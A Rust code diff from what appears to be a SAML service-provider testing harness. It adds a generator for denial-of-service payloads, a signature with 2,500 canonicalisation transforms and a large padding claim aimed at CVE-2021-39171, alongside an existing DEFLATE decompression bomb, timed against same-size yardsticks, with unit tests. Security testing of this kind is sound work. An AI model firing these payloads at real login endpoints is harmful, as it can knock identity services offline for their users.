@@ -1,13 +1,14 @@
 //! Denial of service: small messages that make an SP do far more work than their size, each
-//! posted as the `SAMLResponse` of an SP-initiated login and timed against noise of the same
-//! size.
+//! posted as the `SAMLResponse` of an SP-initiated login and timed against a yardstick of the
+//! same size.
 
 use std::io::Write;
 use std::sync::OnceLock;
 
 use base64::Engine;
+use saml_protocol::{ASSERTION_NS, DSIG_NS, EXC_C14N};
 
-use crate::bytes::Doc;
+use crate::bytes::{self, Doc, Node};
 use crate::check::Burden;
 use crate::forge::{Forge, Skip};
 
@@ -16,17 +17,27 @@ use crate::forge::{Forge, Skip};
 /// from about 45 KB of base64.
 pub const BOMB_PADDING: usize = 32 << 20;
 
-impl Burden {
-    /// Base64 of random letters and digits (no markup for a lenient parser to build elements
-    /// from), as long as the posted value: what the SP's refusal of a same-size message
-    /// costs, the yardstick for the burden's time.
-    pub fn noise(&self) -> String {
-        let bytes: Vec<u8> = std::iter::repeat_with(fastrand::alphanumeric)
-            .take(self.encoded.len() / 4 * 3)
-            .map(|c| c as u8)
-            .collect();
-        base64::engine::general_purpose::STANDARD.encode(bytes)
-    }
+/// How many exclusive-C14N transforms the signature's Reference gets: every one canonicalises
+/// the signed element again (a SAML signature needs two transforms at most).
+pub const TRANSFORMS: usize = 2_500;
+
+/// The characters of the claim that makes the signed element large, so that each transform
+/// costs: with [`TRANSFORMS`], about 460 KB of base64, under a 512 KiB form limit.
+pub const TRANSFORMS_PADDING: usize = 180_000;
+
+/// `xml` base64-encoded, as the HTTP-POST binding carries it.
+fn encoded(xml: impl AsRef<[u8]>) -> String {
+    base64::engine::general_purpose::STANDARD.encode(xml)
+}
+
+/// Base64 of random letters and digits (no markup for a lenient parser to build elements
+/// from), `encoded_len` characters long.
+fn random_text_as_long_as(encoded_len: usize) -> String {
+    let text: Vec<u8> = std::iter::repeat_with(fastrand::alphanumeric)
+        .take(encoded_len / 4 * 3)
+        .map(|c| c as u8)
+        .collect();
+    encoded(text)
 }
 
 /// [`BOMB_PADDING`] line feeds, raw-DEFLATE compressed as non-final blocks ending in a sync
@@ -69,14 +80,106 @@ pub fn deflate_bomb(f: &Forge) -> Result<Burden, Skip> {
     let failed = |e: std::io::Error| Skip::Failed(format!("could not deflate the bomb: {e}"));
     deflater.write_all(response.as_bytes()).map_err(failed)?;
     deflated = deflater.finish().map_err(failed)?;
+    let posted = encoded(deflated);
     Ok(Burden {
-        encoded: base64::engine::general_purpose::STANDARD.encode(deflated),
+        yardstick: random_text_as_long_as(posted.len()),
+        yardstick_is: "same-size random letters and digits",
+        encoded: posted,
         shown: format!(
             "<!-- raw DEFLATE, then base64: inflates to {} MiB -->\n<!-- {} MiB of line feeds -->\n{response}",
             (BOMB_PADDING + response.len()) >> 20,
             BOMB_PADDING >> 20
         ),
     })
+}
+
+/// The IdP's own response with [`TRANSFORMS`] exclusive-C14N transforms in the Reference of
+/// the Assertion's signature (the Response's, when only it is signed) and a
+/// [`TRANSFORMS_PADDING`]-character claim in the signed element. The signature no longer
+/// verifies, but a verifier that runs a Reference's transforms before it checks the
+/// SignatureValue canonicalises the large element once per transform first (passport-saml
+/// < 3.1.0 CVE-2021-39171, through xml-crypto; libxmlsec1 runs them too). The yardstick is the
+/// same response and claim with its own transforms, padded with spaces to the same length.
+pub fn many_transforms(f: &Forge) -> Result<Burden, Skip> {
+    let doc = Doc::parse(f.seed)?;
+    let signed = doc
+        .assertion()
+        .ok()
+        .filter(|a| bytes::signature_of(*a).is_some())
+        .or_else(|| Some(doc.root()).filter(|r| bytes::signature_of(*r).is_some()))
+        .ok_or_else(|| {
+            Skip::NotApplicable("neither the Assertion nor the Response is signed".into())
+        })?;
+    let transforms = bytes::signature_of(signed)
+        .and_then(|s| {
+            s.descendants()
+                .find(|n| n.has_tag_name((DSIG_NS, "Transforms")))
+        })
+        .ok_or_else(|| Skip::NotApplicable("the signature's Reference has no Transforms".into()))?;
+    let transform = bytes::child(transforms, DSIG_NS, "Transform")
+        .ok_or_else(|| Skip::NotApplicable("the signature's Reference has no Transform".into()))?;
+    let extra = format!(
+        "<{} Algorithm=\"{EXC_C14N}\"/>",
+        bytes::qualified_name(doc.src, transform)
+    );
+    let own = transforms.children().filter(|n| n.is_element()).count();
+    let added = TRANSFORMS.saturating_sub(own);
+    let at_transforms = bytes::before_end_tag(doc.src, transforms);
+    let (at_claim, claim) = padding_claim(&doc, signed)?;
+    let burden = bytes::splice(
+        doc.src,
+        vec![
+            bytes::insert(at_claim, claim.clone()),
+            bytes::insert(at_transforms, extra.repeat(added)),
+        ],
+    );
+    let yardstick = bytes::splice(
+        doc.src,
+        vec![
+            bytes::insert(at_claim, claim),
+            bytes::insert(at_transforms, " ".repeat(extra.len() * added)),
+        ],
+    );
+    let shown = bytes::splice(
+        doc.src,
+        vec![
+            bytes::insert(
+                at_claim,
+                format!("<!-- a claim of {TRANSFORMS_PADDING} characters -->"),
+            ),
+            bytes::insert(at_transforms, format!("<!-- {added} more: {extra} -->")),
+        ],
+    );
+    Ok(Burden {
+        encoded: encoded(&burden),
+        shown,
+        yardstick: encoded(&yardstick),
+        yardstick_is: "the same-size response with only its own transforms",
+    })
+}
+
+/// A claim of [`TRANSFORMS_PADDING`] characters at the end of the AttributeStatement of
+/// `signed`, written with the prefixes of the statement's first claim: where, and what.
+fn padding_claim(doc: &Doc, signed: Node) -> Result<(usize, String), Skip> {
+    let statement = signed
+        .descendants()
+        .find(|n| n.has_tag_name((ASSERTION_NS, "AttributeStatement")))
+        .ok_or_else(|| {
+            Skip::NotApplicable("the signed element has no AttributeStatement to pad".into())
+        })?;
+    let attribute = bytes::child(statement, ASSERTION_NS, "Attribute")
+        .ok_or_else(|| Skip::NotApplicable("the signed element has no claim to copy".into()))?;
+    let value = bytes::child(attribute, ASSERTION_NS, "AttributeValue")
+        .ok_or_else(|| Skip::NotApplicable("the claim has no AttributeValue".into()))?;
+    let (a, v) = (
+        bytes::qualified_name(doc.src, attribute),
+        bytes::qualified_name(doc.src, value),
+    );
+    let claim = format!(
+        "<{a} Name=\"urn:saml-harness:padding\"><{v}>{}</{v}></{a}>",
+        "x".repeat(TRANSFORMS_PADDING)
+    );
+    Ok((bytes::before_end_tag(doc.src, statement), claim))
 }
 
 #[cfg(test)]
@@ -125,16 +228,60 @@ mod tests {
     }
 
     #[test]
-    fn noise_is_as_long_as_the_burden_and_inflates_to_nothing_like_it() {
+    fn the_bomb_s_yardstick_is_as_long_and_plain_text() {
         let bomb = deflate_bomb(&forge(SEED)).unwrap();
-        let noise = bomb.noise();
-        assert_eq!(noise.len(), bomb.encoded.len());
+        assert_eq!(bomb.yardstick.len(), bomb.encoded.len());
         let bytes = base64::engine::general_purpose::STANDARD
-            .decode(&noise)
+            .decode(&bomb.yardstick)
             .unwrap();
         assert!(bytes.iter().all(u8::is_ascii_alphanumeric));
-        let inflated = saml_protocol::inflate_bounded(&bytes, 1 << 20).unwrap_or_default();
-        assert!(inflated.len() < 1 << 20);
+    }
+
+    const SIGNED: &str = r##"<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_r"><Assertion xmlns="urn:oasis:names:tc:SAML:2.0:assertion" ID="_a"><Signature xmlns="http://www.w3.org/2000/09/xmldsig#"><SignedInfo><Reference URI="#_a"><Transforms><Transform Algorithm="http://www.w3.org/2000/09/xmldsig#enveloped-signature"/><Transform Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/></Transforms></Reference></SignedInfo></Signature><AttributeStatement><Attribute Name="n"><AttributeValue>v</AttributeValue></Attribute></AttributeStatement></Assertion></samlp:Response>"##;
+
+    /// The Transform elements of `xml`'s signature, and the padding claim's value length.
+    fn shape(encoded: &str) -> (usize, usize) {
+        let xml = String::from_utf8(
+            base64::engine::general_purpose::STANDARD
+                .decode(encoded)
+                .unwrap(),
+        )
+        .unwrap();
+        let doc = roxmltree::Document::parse(&xml).unwrap();
+        let transforms = doc
+            .descendants()
+            .filter(|n| n.has_tag_name((DSIG_NS, "Transform")))
+            .count();
+        let padding = doc
+            .descendants()
+            .find(|n| n.attribute("Name") == Some("urn:saml-harness:padding"))
+            .and_then(|a| a.first_element_child())
+            .and_then(|v| v.text())
+            .map_or(0, str::len);
+        (transforms, padding)
+    }
+
+    #[test]
+    fn many_transforms_pads_the_signed_claims_and_its_yardstick_only_pads() {
+        let burden = many_transforms(&forge(SIGNED)).unwrap();
+        assert_eq!(shape(&burden.encoded), (TRANSFORMS, TRANSFORMS_PADDING));
+        assert_eq!(shape(&burden.yardstick), (2, TRANSFORMS_PADDING));
+        assert_eq!(burden.yardstick.len(), burden.encoded.len());
+        assert!(
+            burden.encoded.len() < 512 * 1024 - 1024,
+            "{}",
+            burden.encoded.len()
+        );
+        assert!(burden.shown.contains("<!-- 2498 more: <Transform Algorithm=\"http://www.w3.org/2001/10/xml-exc-c14n#\"/> -->"), "{}", burden.shown);
+        assert!(burden.shown.len() < 2048, "{}", burden.shown);
+    }
+
+    #[test]
+    fn an_unsigned_seed_gets_no_transforms() {
+        assert!(matches!(
+            many_transforms(&forge(SEED)),
+            Err(Skip::NotApplicable(_))
+        ));
     }
 
     #[test]
